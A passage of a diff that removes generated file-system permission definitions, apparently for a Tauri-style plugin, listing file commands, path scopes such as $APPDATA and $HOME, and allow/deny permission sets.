-        "allow-video-write-recursive": ["write-all", "scope-video-recursive"],
-        "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"]
-      }
-    },
-    {
-      c: [
-        "copy_file",
-        "create",
-        "exists",
-        "fstat",
-        "ftruncate",
-        "lstat",
-        "mkdir",
-        "open",
-        "read",
-        "read_dir",
-        "read_file",
-        "read_text_file",
-        "read_text_file_lines_next",
-        "remove",
-        "rename",
-        "seek",
-        "size",
-        "stat",
-        "truncate",
-        "unwatch",
-        "watch",
-        "write",
-        "write_text_file"
-      ],
-      def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
-      p: {
-        "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] },
-        "allow-write-file": { a: ["write_file", "open", "write"] },
-        "create-app-specific-dirs": { a: ["mkdir", "scope-app-index"] },
-        "deny-read-text-file-lines": { d: ["read_text_file_lines"] },
-        "deny-webview-data-linux": {},
-        "deny-webview-data-windows": {},
-        "deny-write-file": { d: ["write_file"] },
-        "read-all": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists",
-            "watch",
-            "unwatch"
-          ]
-        },
-        "read-app-specific-dirs-recursive": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "exists",
-            "scope-app-recursive"
-          ]
-        },
-        "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        "read-files": {
-          a: [
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists"
-          ]
-        },
-        "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] },
-        scope: {},
-        "scope-app": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPCONFIG/*" },
-            { path: "$APPDATA" },
-            { path: "$APPDATA/*" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPLOCALDATA/*" },
-            { path: "$APPCACHE" },
-            { path: "$APPCACHE/*" },
-            { path: "$APPLOG" },
-            { path: "$APPLOG/*" }
-          ]
-        },
-        "scope-app-index": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPDATA" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPCACHE" },
-            { path: "$APPLOG" }
-          ]
-        },
-        "scope-app-recursive": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPCONFIG/**" },
-            { path: "$APPDATA" },
-            { path: "$APPDATA/**" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPLOCALDATA/**" },
-            { path: "$APPCACHE" },
-            { path: "$APPCACHE/**" },
-            { path: "$APPLOG" },
-            { path: "$APPLOG/**" }
-          ]
-        },
-        "scope-appcache": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/*" }] },
-        "scope-appcache-index": { sa: [{ path: "$APPCACHE" }] },
-        "scope-appcache-recursive": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/**" }] },
-        "scope-appconfig": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }] },
-        "scope-appconfig-index": { sa: [{ path: "$APPCONFIG" }] },
-        "scope-appconfig-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }] },
-        "scope-appdata": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/*" }] },
-        "scope-appdata-index": { sa: [{ path: "$APPDATA" }] },
-        "scope-appdata-recursive": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/**" }] },
-        "scope-applocaldata": { sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }] },
-        "scope-applocaldata-index": { sa: [{ path: "$APPLOCALDATA" }] },
-        "scope-applocaldata-recursive": {
-          sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }]
-        },
-        "scope-applog": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/*" }] },
-        "scope-applog-index": { sa: [{ path: "$APPLOG" }] },
-        "scope-applog-recursive": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/**" }] },
-        "scope-audio": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/*" }] },
-        "scope-audio-index": { sa: [{ path: "$AUDIO" }] },
-        "scope-audio-recursive": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/**" }] },
-        "scope-cache": { sa: [{ path: "$CACHE" }, { path: "$CACHE/*" }] },
-        "scope-cache-index": { sa: [{ path: "$CACHE" }] },
-        "scope-cache-recursive": { sa: [{ path: "$CACHE" }, { path: "$CACHE/**" }] },
-        "scope-config": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/*" }] },
-        "scope-config-index": { sa: [{ path: "$CONFIG" }] },
-        "scope-config-recursive": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/**" }] },
-        "scope-data": { sa: [{ path: "$DATA" }, { path: "$DATA/*" }] },
-        "scope-data-index": { sa: [{ path: "$DATA" }] },
-        "scope-data-recursive": { sa: [{ path: "$DATA" }, { path: "$DATA/**" }] },
-        "scope-desktop": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/*" }] },
-        "scope-desktop-index": { sa: [{ path: "$DESKTOP" }] },
-        "scope-desktop-recursive": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/**" }] },
-        "scope-document": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/*" }] },
-        "scope-document-index": { sa: [{ path: "$DOCUMENT" }] },
-        "scope-document-recursive": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/**" }] },
-        "scope-download": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/*" }] },
-        "scope-download-index": { sa: [{ path: "$DOWNLOAD" }] },
-        "scope-download-recursive": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/**" }] },
-        "scope-exe": { sa: [{ path: "$EXE" }, { path: "$EXE/*" }] },
-        "scope-exe-index": { sa: [{ path: "$EXE" }] },
-        "scope-exe-recursive": { sa: [{ path: "$EXE" }, { path: "$EXE/**" }] },
-        "scope-font": { sa: [{ path: "$FONT" }, { path: "$FONT/*" }] },
-        "scope-font-index": { sa: [{ path: "$FONT" }] },
-        "scope-font-recursive": { sa: [{ path: "$FONT" }, { path: "$FONT/**" }] },
-        "scope-home": { sa: [{ path: "$HOME" }, { path: "$HOME/*" }] },
-        "scope-home-index": { sa: [{ path: "$HOME" }] },
-        "scope-home-recursive": { sa: [{ path: "$HOME" }, { path: "$HOME/**" }] },
-        "scope-localdata": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/*" }] },
-        "scope-localdata-index": { sa: [{ path: "$LOCALDATA" }] },
-        "scope-localdata-recursive": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/**" }] },
-        "scope-log": { sa: [{ path: "$LOG" }, { path: "$LOG/*" }] },
-        "scope-log-index": { sa: [{ path: "$LOG" }] },
-        "scope-log-recursive": { sa: [{ path: "$LOG" }, { path: "$LOG/**" }] },
-        "scope-picture": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/*" }] },
-        "scope-picture-index": { sa: [{ path: "$PICTURE" }] },
-        "scope-picture-recursive": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/**" }] },
-        "scope-public": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/*" }] },
-        "scope-public-index": { sa: [{ path: "$PUBLIC" }] },
-        "scope-public-recursive": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/**" }] },
-        "scope-resource": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/*" }] },
-        "scope-resource-index": { sa: [{ path: "$RESOURCE" }] },
-        "scope-resource-recursive": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/**" }] },
-        "scope-runtime": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/*" }] },
-        "scope-runtime-index": { sa: [{ path: "$RUNTIME" }] },
-        "scope-runtime-recursive": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/**" }] },
-        "scope-temp": { sa: [{ path: "$TEMP" }, { path: "$TEMP/*" }] },
-        "scope-temp-index": { sa: [{ path: "$TEMP" }] },
-        "scope-temp-recursive": { sa: [{ path: "$TEMP" }, { path: "$TEMP/**" }] },
-        "scope-template": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/*" }] },
-        "scope-template-index": { sa: [{ path: "$TEMPLATE" }] },
-        "scope-template-recursive": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/**" }] },
-        "scope-video": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/*" }] },
-        "scope-video-index": { sa: [{ path: "$VIDEO" }] },
-        "scope-video-recursive": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/**" }] },
-        "write-all": {
-          a: [
-            "mkdir",
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        },
-        "write-files": {
-          a: [
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        }
-      },
-      s: {
-        "allow-app-meta": ["read-meta", "scope-app-index"],
-        "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"],
-        "allow-app-read": ["read-all", "scope-app"],
-        "allow-app-read-recursive": ["read-all", "scope-app-recursive"],
-        "allow-app-write": ["write-all", "scope-app"],
-        "allow-app-write-recursive": ["write-all", "scope-app-recursive"],
-        "allow-appcache-meta": ["read-meta", "scope-appcache-index"],
-        "allow-appcache-meta-recursive": ["read-meta", "scope-appcache-recursive"],
-        "allow-appcache-read": ["read-all", "scope-appcache"],
-        "allow-appcache-read-recursive": ["read-all", "scope-appcache-recursive"],
-        "allow-appcache-write": ["write-all", "scope-appcache"],
-        "allow-appcache-write-recursive": ["write-all", "scope-appcache-recursive"],
-        "allow-appconfig-meta": ["read-meta", "scope-appconfig-index"],
-        "allow-appconfig-meta-recursive": ["read-meta", "scope-appconfig-recursive"],
-        "allow-appconfig-read": ["read-all", "scope-appconfig"],
-        "allow-appconfig-read-recursive": ["read-all", "scope-appconfig-recursive"],
-        "allow-appconfig-write": ["write-all", "scope-appconfig"],
-        "allow-appconfig-write-recursive": ["write-all", "scope-appconfig-recursive"],
-        "allow-appdata-meta": ["read-meta", "scope-appdata-index"],
-        "allow-appdata-meta-recursive": ["read-meta", "scope-appdata-recursive"],
-        "allow-appdata-read": ["read-all", "scope-appdata"],
-        "allow-appdata-read-recursive": ["read-all", "scope-appdata-recursive"],
-        "allow-appdata-write": ["write-all", "scope-appdata"],
-        "allow-appdata-write-recursive": ["write-all", "scope-appdata-recursive"],
-        "allow-applocaldata-meta": ["read-meta", "scope-applocaldata-index"],
-        "allow-applocaldata-meta-recursive": ["read-meta", "scope-applocaldata-recursive"],
-        "allow-applocaldata-read": ["read-all", "scope-applocaldata"],
-        "allow-applocaldata-read-recursive": ["read-all", "scope-applocaldata-recursive"],
-        "allow-applocaldata-write": ["write-all", "scope-applocaldata"],
-        "allow-applocaldata-write-recursive": ["write-all", "scope-applocaldata-recursive"],
-        "allow-applog-meta": ["read-meta", "scope-applog-index"],
-        "allow-applog-meta-recursive": ["read-meta", "scope-applog-recursive"],
-        "allow-applog-read": ["read-all", "scope-applog"],
-        "allow-applog-read-recursive": ["read-all", "scope-applog-recursive"],
-        "allow-applog-write": ["write-all", "scope-applog"],
-        "allow-applog-write-recursive": ["write-all", "scope-applog-recursive"],
-        "allow-audio-meta": ["read-meta", "scope-audio-index"],
-        "allow-audio-meta-recursive": ["read-meta", "scope-audio-recursive"],
-        "allow-audio-read": ["read-all", "scope-audio"],
-        "allow-audio-read-recursive": ["read-all", "scope-audio-recursive"],
-        "allow-audio-write": ["write-all", "scope-audio"],
-        "allow-audio-write-recursive": ["write-all", "scope-audio-recursive"],
-        "allow-cache-meta": ["read-meta", "scope-cache-index"],
-        "allow-cache-meta-recursive": ["read-meta", "scope-cache-recursive"],
-        "allow-cache-read": ["read-all", "scope-cache"],
-        "allow-cache-read-recursive": ["read-all", "scope-cache-recursive"],
-        "allow-cache-write": ["write-all", "scope-cache"],
-        "allow-cache-write-recursive": ["write-all", "scope-cache-recursive"],
-        "allow-config-meta": ["read-meta", "scope-config-index"],
-        "allow-config-meta-recursive": ["read-meta", "scope-config-recursive"],
-        "allow-config-read": ["read-all", "scope-config"],
-        "allow-config-read-recursive": ["read-all", "scope-config-recursive"],
-        "allow-config-write": ["write-all", "scope-config"],
-        "allow-config-write-recursive": ["write-all", "scope-config-recursive"],
-        "allow-data-meta": ["read-meta", "scope-data-index"],
-        "allow-data-meta-recursive": ["read-meta", "scope-data-recursive"],
-        "allow-data-read": ["read-all", "scope-data"],
-        "allow-data-read-recursive": ["read-all", "scope-data-recursive"],
-        "allow-data-write": ["write-all", "scope-data"],
-        "allow-data-write-recursive": ["write-all", "scope-data-recursive"],
-        "allow-desktop-meta": ["read-meta", "scope-desktop-index"],
-        "allow-desktop-meta-recursive": ["read-meta", "scope-desktop-recursive"],
-        "allow-desktop-read": ["read-all", "scope-desktop"],
-        "allow-desktop-read-recursive": ["read-all", "scope-desktop-recursive"],
-        "allow-desktop-write": ["write-all", "scope-desktop"],
-        "allow-desktop-write-recursive": ["write-all", "scope-desktop-recursive"],
-        "allow-document-meta": ["read-meta", "scope-document-index"],
-        "allow-document-meta-recursive": ["read-meta", "scope-document-recursive"],
-        "allow-document-read": ["read-all", "scope-document"],
-        "allow-document-read-recursive": ["read-all", "scope-document-recursive"],
-        "allow-document-write": ["write-all", "scope-document"],
-        "allow-document-write-recursive": ["write-all", "scope-document-recursive"],
-        "allow-download-meta": ["read-meta", "scope-download-index"],
-        "allow-download-meta-recursive": ["read-meta", "scope-download-recursive"],
-        "allow-download-read": ["read-all", "scope-download"],
-        "allow-download-read-recursive": ["read-all", "scope-download-recursive"],
-        "allow-download-write": ["write-all", "scope-download"],
-        "allow-download-write-recursive": ["write-all", "scope-download-recursive"],
-        "allow-exe-meta": ["read-meta", "scope-exe-index"],
-        "allow-exe-meta-recursive": ["read-meta", "scope-exe-recursive"],
-        "allow-exe-read": ["read-all", "scope-exe"],
-        "allow-exe-read-recursive": ["read-all", "scope-exe-recursive"],
-        "allow-exe-write": ["write-all", "scope-exe"],
-        "allow-exe-write-recursive": ["write-all", "scope-exe-recursive"],
-        "allow-font-meta": ["read-meta", "scope-font-index"],
-        "allow-font-meta-recursive": ["read-meta", "scope-font-recursive"],
-        "allow-font-read": ["read-all", "scope-font"],
-        "allow-font-read-recursive": ["read-all", "scope-font-recursive"],
-        "allow-font-write": ["write-all", "scope-font"],
-        "allow-font-write-recursive": ["write-all", "scope-font-recursive"],
-        "allow-home-meta": ["read-meta", "scope-home-index"],
-        "allow-home-meta-recursive": ["read-meta", "scope-home-recursive"],
-        "allow-home-read": ["read-all", "scope-home"],
-        "allow-home-read-recursive": ["read-all", "scope-home-recursive"],
-        "allow-home-write": ["write-all", "scope-home"],
-        "allow-home-write-recursive": ["write-all", "scope-home-recursive"],
-        "allow-localdata-meta": ["read-meta", "scope-localdata-index"],
-        "allow-localdata-meta-recursive": ["read-meta", "scope-localdata-recursive"],
-        "allow-localdata-read": ["read-all", "scope-localdata"],
-        "allow-localdata-read-recursive": ["read-all", "scope-localdata-recursive"],
-        "allow-localdata-write": ["write-all", "scope-localdata"],
-        "allow-localdata-write-recursive": ["write-all", "scope-localdata-recursive"],
-        "allow-log-meta": ["read-meta", "scope-log-index"],
-        "allow-log-meta-recursive": ["read-meta", "scope-log-recursive"],
-        "allow-log-read": ["read-all", "scope-log"],
-        "allow-log-read-recursive": ["read-all", "scope-log-recursive"],
-        "allow-log-write": ["write-all", "scope-log"],
-        "allow-log-write-recursive": ["write-all", "scope-log-recursive"],
-        "allow-picture-meta": ["read-meta", "scope-picture-index"],
-        "allow-picture-meta-recursive": ["read-meta", "scope-picture-recursive"],
-        "allow-picture-read": ["read-all", "scope-picture"],
-        "allow-picture-read-recursive": ["read-all", "scope-picture-recursive"],
-        "allow-picture-write": ["write-all", "scope-picture"],
-        "allow-picture-write-recursive": ["write-all", "scope-picture-recursive"],
-        "allow-public-meta": ["read-meta", "scope-public-index"],
-        "allow-public-meta-recursive": ["read-meta", "scope-public-recursive"],
-        "allow-public-read": ["read-all", "scope-public"],
-        "allow-public-read-recursive": ["read-all", "scope-public-recursive"],
-        "allow-public-write": ["write-all", "scope-public"],
-        "allow-public-write-recursive": ["write-all", "scope-public-recursive"],
-        "allow-resource-meta": ["read-meta", "scope-resource-index"],
-        "allow-resource-meta-recursive": ["read-meta", "scope-resource-recursive"],
-        "allow-resource-read": ["read-all", "scope-resource"],
-        "allow-resource-read-recursive": ["read-all", "scope-resource-recursive"],
-        "allow-resource-write": ["write-all", "scope-resource"],
-        "allow-resource-write-recursive": ["write-all", "scope-resource-recursive"],
-        "allow-runtime-meta": ["read-meta", "scope-runtime-index"],
-        "allow-runtime-meta-recursive": ["read-meta", "scope-runtime-recursive"],
-        "allow-runtime-read": ["read-all", "scope-runtime"],
-        "allow-runtime-read-recursive": ["read-all", "scope-runtime-recursive"],
-        "allow-runtime-write": ["write-all", "scope-runtime"],
-        "allow-runtime-write-recursive": ["write-all", "scope-runtime-recursive"],
-        "allow-temp-meta": ["read-meta", "scope-temp-index"],
-        "allow-temp-meta-recursive": ["read-meta", "scope-temp-recursive"],
-        "allow-temp-read": ["read-all", "scope-temp"],
-        "allow-temp-read-recursive": ["read-all", "scope-temp-recursive"],
-        "allow-temp-write": ["write-all", "scope-temp"],
-        "allow-temp-write-recursive": ["write-all", "scope-temp-recursive"],
-        "allow-template-meta": ["read-meta", "scope-template-index"],
-        "allow-template-meta-recursive": ["read-meta", "scope-template-recursive"],
-        "allow-template-read": ["read-all", "scope-template"],
-        "allow-template-read-recursive": ["read-all", "scope-template-recursive"],
-        "allow-template-write": ["write-all", "scope-template"],
-        "allow-template-write-recursive": ["write-all", "scope-template-recursive"],
-        "allow-video-meta": ["read-meta", "scope-video-index"],
-        "allow-video-meta-recursive": ["read-meta", "scope-video-recursive"],
-        "allow-video-read": ["read-all", "scope-video"],
-        "allow-video-read-recursive": ["read-all", "scope-video-recursive"],
-        "allow-video-write": ["write-all", "scope-video"],
-        "allow-video-write-recursive": ["write-all", "scope-video-recursive"],
-        "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"]
-      }
-    },
-    {
-      c: [
-        "copy_file",
-        "create",
-        "exists",
-        "fstat",
-        "ftruncate",
-        "lstat",
-        "mkdir",
-        "open",
-        "read",
-        "read_dir",
-        "read_file",
-        "read_text_file",
-        "read_text_file_lines_next",
-        "remove",
-        "rename",
-        "seek",
-        "size",
-        "start_accessing_security_scoped_resource",
-        "stat",
-        "stop_accessing_security_scoped_resource",
-        "truncate",
-        "unwatch",
-        "watch",
-        "write",
-        "write_text_file"
-      ],
-      def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
-      p: {
-        "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] },
-        "allow-write-file": { a: ["write_file", "open", "write"] },
-        "create-app-specific-dirs": { a: ["mkdir", "scope-app-index"] },
-        "deny-read-text-file-lines": { d: ["read_text_file_lines"] },
-        "deny-webview-data-linux": {},
-        "deny-webview-data-windows": {},
-        "deny-write-file": { d: ["write_file"] },
-        "read-all": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists",
-            "watch",
-            "unwatch"
-          ]
-        },
-        "read-app-specific-dirs-recursive": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "exists",
-            "scope-app-recursive"
-          ]
-        },
-        "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        "read-files": {
-          a: [
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists"
-          ]
-        },
-        "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] },
-        scope: {},
-        "scope-app": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPCONFIG/*" },
-            { path: "$APPDATA" },
-            { path: "$APPDATA/*" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPLOCALDATA/*" },
-            { path: "$APPCACHE" },
-            { path: "$APPCACHE/*" },
-            { path: "$APPLOG" },
-            { path: "$APPLOG/*" }
-          ]
-        },
-        "scope-app-index": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPDATA" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPCACHE" },
-            { path: "$APPLOG" }
-          ]
-        },
-        "scope-app-recursive": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPCONFIG/**" },
-            { path: "$APPDATA" },
-            { path: "$APPDATA/**" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPLOCALDATA/**" },
-            { path: "$APPCACHE" },
-            { path: "$APPCACHE/**" },
-            { path: "$APPLOG" },
-            { path: "$APPLOG/**" }
-          ]
-        },
-        "scope-appcache": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/*" }] },
-        "scope-appcache-index": { sa: [{ path: "$APPCACHE" }] },
-        "scope-appcache-recursive": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/**" }] },
-        "scope-appconfig": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }] },
-        "scope-appconfig-index": { sa: [{ path: "$APPCONFIG" }] },
-        "scope-appconfig-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }] },
-        "scope-appdata": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/*" }] },
-        "scope-appdata-index": { sa: [{ path: "$APPDATA" }] },
-        "scope-appdata-recursive": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/**" }] },
-        "scope-applocaldata": { sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }] },
-        "scope-applocaldata-index": { sa: [{ path: "$APPLOCALDATA" }] },
-        "scope-applocaldata-recursive": {
-          sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }]
-        },
-        "scope-applog": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/*" }] },
-        "scope-applog-index": { sa: [{ path: "$APPLOG" }] },
-        "scope-applog-recursive": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/**" }] },
-        "scope-audio": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/*" }] },
-        "scope-audio-index": { sa: [{ path: "$AUDIO" }] },
-        "scope-audio-recursive": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/**" }] },
-        "scope-cache": { sa: [{ path: "$CACHE" }, { path: "$CACHE/*" }] },
-        "scope-cache-index": { sa: [{ path: "$CACHE" }] },
-        "scope-cache-recursive": { sa: [{ path: "$CACHE" }, { path: "$CACHE/**" }] },
-        "scope-config": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/*" }] },
-        "scope-config-index": { sa: [{ path: "$CONFIG" }] },
-        "scope-config-recursive": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/**" }] },
-        "scope-data": { sa: [{ path: "$DATA" }, { path: "$DATA/*" }] },
-        "scope-data-index": { sa: [{ path: "$DATA" }] },
-        "scope-data-recursive": { sa: [{ path: "$DATA" }, { path: "$DATA/**" }] },
-        "scope-desktop": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/*" }] },
-        "scope-desktop-index": { sa: [{ path: "$DESKTOP" }] },
-        "scope-desktop-recursive": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/**" }] },
-        "scope-document": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/*" }] },
-        "scope-document-index": { sa: [{ path: "$DOCUMENT" }] },
-        "scope-document-recursive": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/**" }] },
-        "scope-download": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/*" }] },
-        "scope-download-index": { sa: [{ path: "$DOWNLOAD" }] },
-        "scope-download-recursive": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/**" }] },
-        "scope-exe": { sa: [{ path: "$EXE" }, { path: "$EXE/*" }] },
-        "scope-exe-index": { sa: [{ path: "$EXE" }] },
-        "scope-exe-recursive": { sa: [{ path: "$EXE" }, { path: "$EXE/**" }] },
-        "scope-font": { sa: [{ path: "$FONT" }, { path: "$FONT/*" }] },
-        "scope-font-index": { sa: [{ path: "$FONT" }] },
-        "scope-font-recursive": { sa: [{ path: "$FONT" }, { path: "$FONT/**" }] },
-        "scope-home": { sa: [{ path: "$HOME" }, { path: "$HOME/*" }] },
-        "scope-home-index": { sa: [{ path: "$HOME" }] },
-        "scope-home-recursive": { sa: [{ path: "$HOME" }, { path: "$HOME/**" }] },
-        "scope-localdata": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/*" }] },
-        "scope-localdata-index": { sa: [{ path: "$LOCALDATA" }] },
-        "scope-localdata-recursive": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/**" }] },
-        "scope-log": { sa: [{ path: "$LOG" }, { path: "$LOG/*" }] },
-        "scope-log-index": { sa: [{ path: "$LOG" }] },
-        "scope-log-recursive": { sa: [{ path: "$LOG" }, { path: "$LOG/**" }] },
-        "scope-picture": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/*" }] },
-        "scope-picture-index": { sa: [{ path: "$PICTURE" }] },
-        "scope-picture-recursive": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/**" }] },
-        "scope-public": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/*" }] },
-        "scope-public-index": { sa: [{ path: "$PUBLIC" }] },
-        "scope-public-recursive": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/**" }] },
-        "scope-resource": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/*" }] },
-        "scope-resource-index": { sa: [{ path: "$RESOURCE" }] },
-        "scope-resource-recursive": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/**" }] },
-        "scope-runtime": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/*" }] },
-        "scope-runtime-index": { sa: [{ path: "$RUNTIME" }] },
-        "scope-runtime-recursive": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/**" }] },
-        "scope-temp": { sa: [{ path: "$TEMP" }, { path: "$TEMP/*" }] },
-        "scope-temp-index": { sa: [{ path: "$TEMP" }] },
-        "scope-temp-recursive": { sa: [{ path: "$TEMP" }, { path: "$TEMP/**" }] },
-        "scope-template": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/*" }] },
-        "scope-template-index": { sa: [{ path: "$TEMPLATE" }] },
-        "scope-template-recursive": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/**" }] },
-        "scope-video": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/*" }] },
-        "scope-video-index": { sa: [{ path: "$VIDEO" }] },
-        "scope-video-recursive": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/**" }] },
-        "write-all": {
-          a: [
-            "mkdir",
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        },
-        "write-files": {
-          a: [
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        }
-      },
-      s: {
-        "allow-app-meta": ["read-meta", "scope-app-index"],
-        "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"],
-        "allow-app-read": ["read-all", "scope-app"],
-        "allow-app-read-recursive": ["read-all", "scope-app-recursive"],
-        "allow-app-write": ["write-all", "scope-app"],
-        "allow-app-write-recursive": ["write-all", "scope-app-recursive"],
-        "allow-appcache-meta": ["read-meta", "scope-appcache-index"],
-        "allow-appcache-meta-recursive": ["read-meta", "scope-appcache-recursive"],
-        "allow-appcache-read": ["read-all", "scope-appcache"],
-        "allow-appcache-read-recursive": ["read-all", "scope-appcache-recursive"],
-        "allow-appcache-write": ["write-all", "scope-appcache"],
-        "allow-appcache-write-recursive": ["write-all", "scope-appcache-recursive"],
-        "allow-appconfig-meta": ["read-meta", "scope-appconfig-index"],
-        "allow-appconfig-meta-recursive": ["read-meta", "scope-appconfig-recursive"],
-        "allow-appconfig-read": ["read-all", "scope-appconfig"],
-        "allow-appconfig-read-recursive": ["read-all", "scope-appconfig-recursive"],
-        "allow-appconfig-write": ["write-all", "scope-appconfig"],
-        "allow-appconfig-write-recursive": ["write-all", "scope-appconfig-recursive"],
-        "allow-appdata-meta": ["read-meta", "scope-appdata-index"],
-        "allow-appdata-meta-recursive": ["read-meta", "scope-appdata-recursive"],
-        "allow-appdata-read": ["read-all", "scope-appdata"],
-        "allow-appdata-read-recursive": ["read-all", "scope-appdata-recursive"],
-        "allow-appdata-write": ["write-all", "scope-appdata"],
-        "allow-appdata-write-recursive": ["write-all", "scope-appdata-recursive"],
